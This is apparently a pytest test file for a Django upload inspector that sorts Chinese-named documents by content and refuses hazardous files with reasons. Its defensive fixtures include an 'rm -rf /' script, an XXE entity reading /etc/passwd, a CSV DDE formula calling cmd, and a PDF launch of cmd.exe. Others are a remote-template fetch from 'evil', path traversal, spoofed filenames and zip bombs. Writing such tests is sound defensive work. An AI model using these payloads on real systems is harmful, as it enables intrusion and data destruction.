"""What a file is, by its content; what is refused, with what words."""

import io
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st
from samples import (
    archive,
    bomb,
    docx,
    encrypted_zip,
    jpeg,
    object_stream,
    ofd,
    old,
    overlapping,
    pdf,
    png,
    pptx,
    tiff,
    xlsx,
)

from sunshine.foundation.evidence.engine.containers import Budget
from sunshine.foundation.evidence.engine.kinds import inspect
from sunshine.foundation.evidence.rules import SecretError, byte_range, clean_name
from sunshine.foundation.reference.engine import codes

KINDS = codes(Path(settings.CONTENT_ROOT), "evidence_kinds")
JS = b"4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"


def kind(data: bytes, name: str, unpacked: int = 400 << 20, entries: int = 2000) -> str:
    return inspect(io.BytesIO(data), clean_name(name), KINDS, Budget(unpacked, entries))


def in_chinese(error: ValueError) -> bool:
    return any("一" <= c <= "鿿" for c in str(error))


GOOD = {
    "付款凭证.pdf": ("pdf", pdf()),
    "旧表格.PDF": ("pdf", pdf(object_stream(b"1 0 <</Type/Font>>"))),
    "截图.png": ("png", png()),
    "照片.jpg": ("jpeg", jpeg()),
    "照片2.JPEG": ("jpeg", jpeg(b"\0\0motion photo")),
    "扫描.tif": ("tiff", tiff()),
    "说明.docx": ("docx", docx()),
    "台账.xlsx": ("xlsx", xlsx()),
    "汇报.pptx": ("pptx", pptx()),
    "电子发票.ofd": ("ofd", ofd()),
    "旧说明.doc": ("doc", old("WordDocument")),
    "旧台账.xls": ("xls", old("Workbook")),
    "旧汇报.ppt": ("ppt", old("PowerPoint Document")),
    "说明.txt": ("text", "录入有误，见凭证 7 号".encode()),
    "国标.txt": ("text", "录入有误，见凭证 7 号".encode("gb18030")),
    "明细.csv": ("text", "编号,金额\n1,-5\n".encode()),
    "数电发票.xml": ("xml", b'<?xml version="1.0" encoding="utf-8"?><EInvoice><No>1</No></EInvoice>'),
    "打包.zip": ("zip", archive({"a/凭证.pdf": pdf(), "a/表.xlsx": xlsx()})),
    "2026.3.1付款.pdf": ("pdf", pdf()),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_an_honest_file_is_what_its_content_says(name: str) -> None:
    expected, data = GOOD[name]
    assert kind(data, name) == expected


BAD = {
    "0 字节": ("空.pdf", b"", "空的"),
    "扩展名与内容不符": ("照片.pdf", png(), "内容却是PNG"),
    "程序改名": ("凭证.pdf", b"MZ" + b"\0" * 300, "不收"),
    "双扩展名": ("凭证.exe.pdf", pdf(), "伪装的程序"),
    "双扩展名结尾": ("凭证.pdf.exe", pdf(), "不收“.exe”"),
    "反转书写方向": ("凭证\u202efdp.exe", pdf(), "不收“.exe”"),
    "没有扩展名": ("凭证", pdf(), "没有扩展名"),
    "SVG": ("图.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "网页或脚本"),
    "SVG 改名": ("图.xml", b'<svg xmlns="http://www.w3.org/2000/svg"/>', "网页或脚本"),
    "网页": ("页.html", b"<!doctype html><html></html>", "网页或脚本"),
    "文本里的网页": ("说明.txt", b"hello\n<script>alert(1)</script>", "网页或脚本"),
    "UTF-16 网页": ("说明.txt", "<html>".encode("utf-16"), "网页或脚本"),
    "shell": ("说明.txt", b"#!/bin/sh\nrm -rf /\n", "网页或脚本"),
    "XML 外部实体": ("票.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>', "网页或脚本"),
    "XML 样式表": ("票.xml", b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "网页或脚本"),
    "表格里的公式": ("明细.csv", b"a,b\n=cmd|'/C calc'!A0,1\n", "公式"),
    "二进制充文本": ("说明.txt", b"\x00\x01\x02\x03" * 9, "不收"),
    "PDF 脚本": ("凭证.pdf", pdf(JS), "脚本"),
    "PDF 转义的脚本": ("凭证.pdf", pdf(JS.replace(b"/JavaScript", b"/J#61vaScrip#74")), "脚本"),
    "PDF 对象流里的脚本": ("凭证.pdf", pdf(object_stream(b"1 0 " + JS)), "脚本"),
    "PDF 启动程序": ("凭证.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "启动程序"),
    "PDF 动态表单": ("凭证.pdf", pdf(b"<</XFA 9 0 R>>"), "动态表单"),
    "PDF 加密": ("凭证.pdf", pdf(b"<</Encrypt 9 0 R>>"), "密码"),
    "PDF 看不懂的过滤器": ("凭证.pdf", pdf(object_stream(b"", b"/Filter[/ASCII85Decode/FlateDecode]")), "无法检查"),
    "PDF 截断": ("凭证.pdf", pdf()[:60], "不完整"),
    "PDF 前有别的": ("凭证.pdf", b"GIF89a\0" + pdf(), "不收"),
    "PDF 和 ZIP 两用": ("凭证.pdf", pdf() + archive({"a.exe": b"MZ"}), "压缩包"),
    "PNG 和 ZIP 两用": ("图.png", png(archive({"a.exe": b"MZ"})), "压缩包"),
    "PNG 后有脚本": ("图.png", png(b"<script>alert(1)</script>"), "多余内容"),
    "PNG 里有脚本": ("图.png", png(text=b"<script>alert(1)</script>"), "夹着"),
    "PNG 截断": ("图.png", png()[:40], "不完整"),
    "JPEG 后有 PDF": ("图.jpg", jpeg(pdf()), "夹着"),
    "带宏的 Word": ("说明.docm", docx(**{"word/vbaProject.bin": b"x"}), "宏"),
    "带宏的 Word 改名": ("说明.docx", docx(**{"word/vbaProject.bin": b"x"}), "宏"),
    "控件": ("说明.docx", docx(**{"word/activeX/activeX1.xml": b"<x/>"}), "宏"),
    "远程模板": ("说明.docx", docx(**{"word/_rels/settings.xml.rels": b'<Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/a.dotm" TargetMode="External"/>'}), "到别处取"),
    "DDE": ("说明.docx", docx(**{"word/document2.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}), "到别处取"),
    "嵌入的文件": ("说明.docx", docx(**{"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}), "嵌有"),
    "旧 Word 带宏": ("说明.doc", old("WordDocument", "_VBA_PROJECT"), "宏"),
    "加密的 Word": ("说明.docx", old("EncryptedPackage"), "密码"),
    "安装包充文档": ("说明.doc", old("Other"), "不是可以收下"),
    "加密的 ZIP": ("包.zip", encrypted_zip(), "密码"),
    "ZIP 路径越界": ("包.zip", archive({"../../etc/passwd.txt": b"x"}), "路径不正常"),
    "ZIP 绝对路径": ("包.zip", archive({"/etc/passwd.txt": b"x"}), "路径不正常"),
    "ZIP 套 ZIP": ("包.zip", archive({"b.zip": archive({"a.txt": b"x"})}), "不能再放压缩包"),
    "ZIP 里的程序": ("包.zip", archive({"a.exe": b"MZ\0\0"}), "不收"),
    "ZIP 里的带宏文档": ("包.zip", archive({"a.docx": docx(**{"word/vbaProject.bin": b"x"})}), "宏"),
    "ZIP 末尾有多余": ("包.zip", archive({"a.txt": b"x"}) + b"tail", "末尾有多余"),
    "ZIP 损坏": ("包.zip", archive({"a.txt": b"x" * 99}, stored=True).replace(b"xxx", b"yyy", 1), "损坏"),
    "RAR": ("包.zip", b"Rar!\x1a\x07\x01\x00" + b"\0" * 40, "不收"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_what_could_run_or_deceive_is_refused_with_a_reason(case: str) -> None:
    name, data, words = BAD[case]
    with pytest.raises(ValueError, match=words) as refused:
        kind(data, name)
    assert not isinstance(refused.value, SecretError)


def test_a_bomb_is_refused_before_it_is_unpacked_in_full() -> None:
    packed = bomb()
    assert len(packed) < 1 << 18
    with pytest.raises(ValueError, match="压缩炸弹"):
        kind(packed, "包.zip", unpacked=20 << 20)
    with pytest.raises(ValueError, match="压缩炸弹"):
        kind(overlapping(), "包.zip")
    with pytest.raises(ValueError, match="压缩炸弹"):
        kind(pdf(object_stream(b"0" * (22 << 20))), "凭证.pdf", unpacked=20 << 20)
    with pytest.raises(ValueError, match="太多"):
        kind(archive({f"{n}.txt": b"x" for n in range(30)}), "包.zip", entries=20)


MARKED = {
    "文件名": ("机密★5年 会议纪要.pdf", pdf()),
    "正文": ("纪要.txt", "绝密★\n会议纪要".encode()),
    "Word 正文": ("纪要.docx", docx(**{"word/header1.xml": "<w:t>秘密</w:t><w:t>★1年</w:t>".encode()})),
    "ZIP 里的文件": ("包.zip", archive({"a.txt": "机密 ★ 长期".encode()})),
}  # fmt: skip


@pytest.mark.parametrize("case", MARKED)
def test_the_mark_of_a_state_secret_is_seen(case: str) -> None:
    name, data = MARKED[case]
    with pytest.raises(SecretError):
        kind(data, name)


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\张三\\桌面\\凭证.PDF", "凭证.pdf"),
        ("a\u200bb\u202e\x00c.pdf", "abc.pdf"),
        ("con.pdf", "_con.pdf"),
        ('凭证"<b>:|?*.pdf', "凭证__b_____.pdf"),
        (" . 凭证 .pdf. ", "凭证.pdf"),
        ("凭" * 300 + ".pdf", "凭" * 116 + ".pdf"),
    ],
)
def test_a_name_is_made_safe(raw: str, clean: str) -> None:
    assert clean_name(raw) == clean


@given(st.text(max_size=300))
def test_no_name_leads_out_of_a_folder_or_hides_what_it_is(raw: str) -> None:
    try:
        name = clean_name(raw)
    except ValueError:
        return
    assert 0 < len(name) <= 120
    assert not set(name) & set('/\\<>:"|?*\0\r\n\u202e\u200b')
    assert not name.startswith((".", " "))
    assert clean_name(name) == name


@given(st.binary(max_size=400), st.sampled_from(["a.pdf", "a.zip", "a.docx", "a.png", "a.txt"]))
def test_any_bytes_are_taken_in_or_refused_in_words(data: bytes, name: str) -> None:
    for head in (
        b"",
        b"%PDF-1.7\n",
        b"PK\3\4",
        b"\x89PNG\r\n\x1a\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    ):
        try:
            assert kind(head + data, name) in KINDS
        except ValueError as refused:
            assert in_chinese(refused) or isinstance(refused, SecretError)  # noqa: PT017  either


@given(st.binary(max_size=300), st.integers(0, 10_000), st.integers(0, 255))
def test_a_damaged_archive_is_refused_in_words(tail: bytes, place: int, value: int) -> None:
    data = bytearray(archive({"a.txt": b"hello" * 9, "b.csv": b"1,2"}) if place % 2 else docx())
    data[place % len(data)] = value
    for name in ("a.zip", "a.docx"):
        try:
            assert kind(bytes(data) + tail, name) in KINDS
        except ValueError as refused:
            assert in_chinese(refused)  # noqa: PT017  either may be right


@pytest.mark.parametrize(
    ("header", "part"),
    [
        ("", None),
        ("bytes=0-3", (0, 4)),
        ("bytes=5-", (5, 10)),
        ("bytes=-4", (6, 10)),
        ("bytes=2-99", (2, 10)),
        ("bytes=0-1,4-5", None),
        ("lines=0-3", None),
        ("bytes=-", None),
        ("bytes=5-2", None),
    ],
)
def test_a_range_is_one_part_or_the_whole(header: str, part: object) -> None:
    assert byte_range(header, 10) == part


def test_a_range_beyond_the_end_is_an_error() -> None:
    with pytest.raises(ValueError, match="beyond"):
        byte_range("bytes=10-", 10)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(b"stream\n" * 700_000), "a.pdf"),
        (docx(**{"word/big.xml": b"<" * 5_000_000}), "a.docx"),
        (docx(**{"word/big.xml": b"<Relationship /oleObject" * 200_000}), "a.docx"),
        (b"=" * 3_000_000, "a.csv"),
        (b"< " * 1_500_000, "a.txt"),
    ],
    ids=["streams", "tags", "relations", "formulas", "markup"],
)
@pytest.mark.timeout(60)
def test_no_content_makes_the_check_run_for_ever(data: bytes, name: str) -> None:
    assert kind(data, name) in KINDS
